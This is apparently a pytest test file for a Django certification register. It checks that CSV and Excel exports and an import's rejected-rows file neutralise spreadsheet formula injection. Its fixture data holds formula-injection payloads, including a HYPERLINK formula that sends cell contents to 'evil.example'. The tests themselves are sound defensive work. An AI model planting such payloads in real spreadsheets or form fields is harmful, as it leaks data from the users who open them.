"""Spreadsheet exports keep text as text: a participant whose name reads like a formula (`=HYPERLINK(…)`, `+1`,
`@SUM(…)`) comes out of every export, CSV and Excel, as a cell no spreadsheet program evaluates."""

import csv
import datetime
import io
from io import StringIO

import pytest
from django.core.management import call_command
from django.utils import timezone
from openpyxl import load_workbook

from learning.register.services import add_months
from tests.factories import CertificationFactory, UserFactory

pytestmark = pytest.mark.django_db

FORMULA_NAMES = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def formula_named(als1):
    expires_on = timezone.localdate() + datetime.timedelta(days=300)
    for index, name in enumerate(FORMULA_NAMES):
        person = UserFactory(first_name=name, last_name="Safe")
        CertificationFactory(
            participant=person,
            course=als1,
            number=f"ALS1-2025-{index:06d}",
            issued_on=add_months(expires_on, -24),
            expires_on=expires_on,
        )


def test_the_certification_csv_export_prefixes_formula_cells_with_an_apostrophe(admin_client, formula_named):
    response = admin_client.get("/admin/certifications/?export=csv")

    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"), newline="")))
    assert sorted(row["First name"] for row in rows) == sorted(f"'{name}" for name in FORMULA_NAMES)
    assert {row["Last name"] for row in rows} == {"Safe"}


def test_the_certification_excel_export_keeps_formula_cells_as_quoted_text(admin_client, formula_named):
    response = admin_client.get("/admin/certifications/?export=xlsx")

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    headings = [cell.value for cell in sheet[1]]
    names = [row[headings.index("First name")] for row in sheet.iter_rows(min_row=2)]
    # XML reads a carriage return back as a line feed; the rest of each name is kept exactly.
    assert sorted(cell.value for cell in names) == sorted(name.replace("\r", "\n") for name in FORMULA_NAMES)
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in names)
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_ordinary_cells_are_exported_unchanged_with_the_mark_excel_reads_utf8_by(admin_client, als1):
    CertificationFactory(participant=UserFactory(first_name="Anne-Marié"), course=als1, number="ALS1-2025-000001")

    response = admin_client.get("/admin/certifications/?export=csv")

    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode())
    row = next(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert (row["First name"], row["Number"]) == ("Anne-Marié", "ALS1-2025-000001")


def test_the_rejected_rows_file_of_an_import_prefixes_formula_cells(tmp_path, als1):
    source = tmp_path / "records.csv"
    source.write_text(
        "email,first_name,last_name,course_code,number,issued_on,expires_on\n"
        'ann@example.org,"=HYPERLINK(""https://evil.example"")",Lee,XYZ9,@SUM(A1),2025-03-02,\n'
    )

    call_command("import_certifications", str(source), "--skip-invalid", stdout=StringIO(), stderr=StringIO())

    with open(tmp_path / "records.rejected.csv", newline="") as handle:
        rejected = next(csv.DictReader(handle))
    assert rejected["first_name"] == '\'=HYPERLINK("https://evil.example")'
    assert rejected["number"] == "'@SUM(A1)"
    assert rejected["email"] == "ann@example.org"
